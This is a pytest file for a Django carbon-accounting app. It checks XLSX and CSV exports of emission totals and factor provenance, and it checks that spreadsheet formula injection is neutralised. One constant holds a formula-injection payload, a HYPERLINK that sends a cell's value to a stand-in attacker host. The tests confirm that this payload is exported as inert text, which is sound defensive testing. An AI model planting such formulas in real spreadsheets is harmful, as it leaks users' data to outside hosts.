"""Account exports from a hand-made catalogue: numbers, provenance, and formula injection neutralised."""

from __future__ import annotations

import csv
import io

import pytest
from django.utils import translation
from openpyxl import load_workbook

from klimabok.account.exports import AccountExport, Cell, csv_chunks, lines_table, neutralise, xlsx_bytes
from klimabok.core.engine import ActivityLine, compute_account
from klimabok.core.factors.catalogue import Catalogue
from klimabok.core.factors.model import Activity, Basis, Factor, FactorDataset

SOURCE = "Test publication 2025"


def factor(key: str, kg: float, *, scope: int, category: int | None = None, basis: Basis = Basis.BOTH,
           unit: str = "kWh", ref: str = "") -> Factor:
    return Factor(key=key, name=key.title(), name_nb=f"{key} (nb)", unit=unit, year=2025, region="NO",
                  scope=scope, category=category, kg_co2e=kg, kg_co2=kg, basis=basis, source=SOURCE,
                  source_ref=ref or f"row-{key}", licence="CC0", dataset_id="test", dataset_version="1")


FACTORS = (
    factor("grid.location", 0.02, scope=2, basis=Basis.LOCATION, ref="T1 row 4"),
    factor("grid.market", 0.4, scope=2, basis=Basis.MARKET, ref="T2 row 9"),
    factor("diesel", 2.5, scope=1, unit="L", ref="Fuels row 12"),
    factor("flight", 0.15, scope=3, category=6, unit="km", ref="Air row 3"),
)
CATALOGUE = Catalogue(
    [FactorDataset("test", "1", 2025, "Test factors", SOURCE, "CC0", FACTORS)],
    [Activity("grid", "Electricity", "kWh", ("grid.location", "grid.market"), name_nb="Strøm")],
)
MALICIOUS = '=HYPERLINK("http://evil.example/?x="&A1,"Click")'


def account_export() -> AccountExport:
    lines = [
        # 10,000 kWh × 0.02 = 200 kg location; × 0.4 = 4,000 kg market
        ActivityLine("grid", 10_000, "kWh", site="Oslo", description="Office", data_quality=1, ref="entry:1"),
        # 1,000 L × 2.5 = 2,500 kg, scope 1
        ActivityLine("diesel", 1_000, "L", site="Oslo", description=MALICIOUS, data_quality=2, ref="entry:2"),
        # 20,000 km × 0.15 = 3,000 kg, scope 3.6
        ActivityLine("flight", 20_000, "km", description="-10 % discount", ref="entry:3"),
    ]
    account = compute_account(lines, year=2025, catalogue=CATALOGUE)
    return AccountExport(organisation="Nordlys Kundesenter AS", slug="nordlys", year=2025, closed=True,
                         account=account, catalogue=CATALOGUE,
                         intensities=account.intensities(fte=10))


@pytest.mark.parametrize(("value", "expected"), [
    ("=1+1", "'=1+1"), ("+47 999", "'+47 999"), ("-2", "'-2"), ("@SUM(A1)", "'@SUM(A1)"),
    ("\tx", "'\tx"), ("\rx", "'\rx"), ("Oslo", "Oslo"), (-2.5, -2.5), (None, None),
])
def test_neutralise(value: Cell, expected: object) -> None:
    assert neutralise(value) == expected


def number(value: object) -> float:
    """A spreadsheet cell's value that must be a number."""
    assert isinstance(value, int | float), value
    return value


def test_filename() -> None:
    assert account_export().filename("xlsx") == "klimaregnskap-nordlys-2025.xlsx"
    assert account_export().filename("csv", "lines") == "klimaregnskap-nordlys-2025-lines.csv"


def test_xlsx_summary_and_lines() -> None:
    with translation.override("en"):
        book = load_workbook(io.BytesIO(xlsx_bytes(account_export())))
    assert book.sheetnames == ["Summary", "Lines"]
    summary: dict[object, tuple[object, ...]] = {
        row[0]: row[1:] for row in book["Summary"].iter_rows(values_only=True) if row and row[0]}
    # market: 2.5 t scope 1 + 4.0 t scope 2 + 3.0 t scope 3 = 9.5 t; location: 2.5 + 0.2 + 3.0 = 5.7 t
    assert summary["Total, market-based"][0] == pytest.approx(9.5)
    assert summary["Total, location-based"][0] == pytest.approx(5.7)
    assert summary["Scope 3.6: Business travel"][:2] == ("scope_3.6", pytest.approx(3.0))
    assert summary["Oslo"][:3] == (pytest.approx(2.5), pytest.approx(0.2), pytest.approx(4.0))
    assert summary["GWP set"][0] == "IPCC AR5, 100-year GWP"
    assert summary["test"][:2] == ("1", "Test factors")
    assert summary["per FTE"][1:3] == (pytest.approx(0.57), pytest.approx(0.95))

    rows = list(book["Lines"].iter_rows(values_only=True))
    header, lines = rows[0], rows[1:]
    by_name: list[dict[object, object]] = [dict(zip(header, line, strict=True)) for line in lines]
    assert len(by_name) == 4  # the electricity line has a location and a market component
    assert sum(number(r["t CO2e"]) for r in by_name if r["Scope 2 basis"] != "location") == pytest.approx(9.5)
    diesel = next(r for r in by_name if r["Factor key"] == "diesel")
    assert diesel["Description"] == "'" + MALICIOUS  # shown as text, never a formula
    assert diesel["Source reference"] == "Fuels row 12"
    assert diesel["kg CO2e"] == pytest.approx(2500)
    assert diesel["Entry"] == "entry:2"
    assert next(r for r in by_name if r["Factor key"] == "flight")["Description"] == "'-10 % discount"
    cell = next(c for row in book["Lines"].iter_rows() for c in row if c.value == "'" + MALICIOUS)
    assert cell.data_type == "s"


def test_csv_lines_have_provenance_and_no_formulas() -> None:
    with translation.override("nb"):
        text = "".join(csv_chunks(lines_table(account_export())))
    assert text.startswith("\ufeff")
    rows = list(csv.reader(io.StringIO(text.removeprefix("\ufeff"))))
    assert rows[0][:3] == ["Linje", "Registrering", "Aktivitet"]
    assert rows[1][3] == "Strøm"  # activity name in bokmål
    diesel = next(r for r in rows if "Fuels row 12" in r)
    assert "'" + MALICIOUS in diesel
    assert not any(cell.startswith("=") for row in rows for cell in row)
